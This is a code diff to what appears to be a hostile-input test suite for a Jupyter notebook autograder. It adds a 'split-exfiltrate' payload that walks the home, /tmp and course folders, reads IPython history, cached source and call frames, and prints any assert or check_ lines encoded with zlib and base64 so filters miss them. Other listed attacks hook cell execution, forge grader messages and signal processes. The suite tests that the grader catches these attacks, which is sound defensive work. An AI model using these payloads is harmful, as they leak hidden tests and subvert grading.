@@ -192,6 +192,57 @@ TAMPERING = {
 WRAP = (  # appended to every answer cell: the function it defines runs `_attack()` first
     "\n\n_real = {name}\n\ndef {name}(*args, **kwargs):\n    _attack()\n    return _real(*args, **kwargs)\n"
 )
+EXFILTRATE = r"""
+_exfiltrated = []
+def _attack():
+    import base64, linecache, os, sys, zlib
+    import utils
+    if _exfiltrated:
+        return
+    _exfiltrated.append(1)
+    ip, found = get_ipython(), set()
+    for text in [*ip.user_ns.get('In', []), *ip.history_manager.input_hist_raw]:
+        found.update(text.splitlines())
+    for entry in list(linecache.cache.values()):
+        if len(entry) > 2:
+            found.update(''.join(entry[2]).splitlines())
+    frame = sys._getframe(1)
+    while frame is not None:
+        found.update(c for c in frame.f_code.co_consts if isinstance(c, str))
+        found.update(repr(v)[:300] for v in list(frame.f_locals.values()))
+        frame = frame.f_back
+    found.update(v for v in list(ip.user_ns.values()) if isinstance(v, str))
+    course = os.path.dirname(os.path.dirname(os.path.abspath(utils.__file__)))
+    for root in (os.getcwd(), os.path.expanduser('~'), '/tmp', course):
+        for folder, subfolders, files in os.walk(root):
+            subfolders[:] = [d for d in subfolders if d not in ('.venv', '.git', 'node_modules')]
+            for name in files:
+                if name.endswith(('.py', '.ipynb', '.json', '.md', '.txt', '.yml', '.log', '.jsonl')):
+                    try:
+                        with open(os.path.join(folder, name), errors='replace') as handle:
+                            text = handle.read(2000000)
+                        found.update(text.splitlines())
+                        if name.endswith('.ipynb'):
+                            import json
+                            found.update(''.join(c['source']) for c in json.loads(text)['cells'])
+                    except Exception:
+                        pass
+    wanted = sorted({line.strip() for text in found for line in str(text).splitlines()
+                     if 'check_' in line or 'assert' in line})
+    print('EXFIL', base64.b64encode(zlib.compress(chr(10).join(wanted).encode(), 9)).decode())
+"""
+
+
+def exfiltrated(text: str) -> list[set[str]]:
+    """The line sets that the split-exfiltrate attack printed in `text` (decoded)."""
+    import base64
+    import re
+    import zlib
+
+    return [set(zlib.decompress(base64.b64decode(blob)).decode().splitlines())
+            for blob in re.findall(r"EXFIL ([A-Za-z0-9+/=]+)", text)]
+
+
 SPLIT_ATTACKS = {
     # 1. changing how later cells are executed (in the kernel: the test cells never run there)
     "split-runcell": "ip = get_ipython()\n_run = ip.run_cell\n"
@@ -227,6 +278,10 @@ SPLIT_ATTACKS = {
     "split-forge": "def _attack():\n    comm = next(iter(get_ipython().kernel.comm_manager.comms.values()), None)\n"
                    "    if comm is not None:\n        comm.send({'tree': ['bool', True]})",
     "split-rng": "def _attack():\n    import torch\n    torch.manual_seed(0)",
+    # 4. carrying what it finds out in a form no filter recognises (zlib + base64): it searches its
+    # history, linecache, the frames of the call, its globals and every file it can read under its
+    # folders and the course's, and prints the lines a test would hold (tests/test_hostile.py decodes them)
+    "split-exfiltrate": EXFILTRATE,
     # processes: what it can signal is its own kernel and what that kernel started
     "split-signals": "import os, signal\n"
                      "for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
@@ -241,13 +296,13 @@ SPLIT_ATTACKS = {
 # (hooks that change later cells, reading the running code, replacing what tests rely on).
 SPLIT_STATUS = {"split-signals": "sandbox",
                 **dict.fromkeys(["split-runcell", "split-ast", "split-libcallback", "split-frames", "split-history",
-                                 "split-linecache", "split-globals", "split-patch"], "flagged")}
+                                 "split-linecache", "split-globals", "split-patch", "split-exfiltrate"], "flagged")}
 
 
 def split_attack(nb, name: str):
     """`nb` with the attack `name`: a cell after the setup cell, or wrapped around every answer."""
     code = SPLIT_ATTACKS[name]
-    if not code.startswith("def _attack"):
+    if "def _attack" not in code:
         return with_cell(nb, code, after_setup=False if name == "split-signals" else True)
     nb = with_cell(nb, code)
     for cell in nb.cells:
